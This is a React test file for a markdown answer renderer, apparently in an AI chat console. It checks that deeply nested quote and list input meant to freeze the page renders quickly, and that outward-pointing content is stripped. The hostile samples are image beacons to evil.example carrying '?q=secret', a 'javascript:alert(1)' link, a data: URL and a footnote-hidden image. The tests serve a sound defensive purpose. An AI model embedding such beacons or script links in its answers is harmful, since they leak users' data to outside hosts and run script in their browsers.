import { screen } from '@testing-library/react';
import { describe, expect, it, vi } from 'vitest';
import { renderConsole } from '../../test-console.tsx';
import { AnswerText } from './answer-text.tsx';

describe('an answer that is made to take the page down', () => {
  it.each([
    ['quotes in quotes', `${'>'.repeat(4_000)}deep`],
    ['lists in lists', `${'- '.repeat(3_000)}deep`],
    ['lists below one another', Array.from({ length: 60 }, (_at, i) => `${'  '.repeat(i)}- deep`).join('\n')],
  ])('is shown as it was written, and the rest as it is meant: %s', (_, text) => {
    vi.spyOn(console, 'error').mockReturnValue(undefined);
    const began = performance.now();
    renderConsole(<AnswerText text={`**Before**\n\n${text}\n\nAfter.`} streaming={false} />);
    expect(screen.getByText('Before').tagName).toBe('STRONG');
    expect(screen.getByText(/deep/).tagName).toBe('PRE');
    expect(performance.now() - began).toBeLessThan(5_000);
  });
});

describe('an answer that has ways to the outside', () => {
  it.each([
    '![pixel](https://evil.example/p.png?q=secret)',
    '![`pixel`](https://evil.example/p.png?q=secret)',
    '<img src="https://evil.example/p.png">',
    '[open](https://evil.example)',
    '[open](javascript:alert(1))',
    '[open](data:text/html,x)',
    '[open](//evil.example)',
    'https://evil.example',
    '[^1]\n\n[^1]: ![pixel](https://evil.example/p.png)',
  ])('neither fetches nor links anything: %s', (text) => {
    renderConsole(<AnswerText text={text} streaming={false} />);
    const ways = document.body.querySelectorAll('img, picture, iframe, object, video, [src], [style*="url"]');
    expect([...ways]).toEqual([]);
    const links = [...document.body.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
    expect(links.filter((href) => !/^[/#](?!\/)/.test(href))).toEqual([]);
  });
});
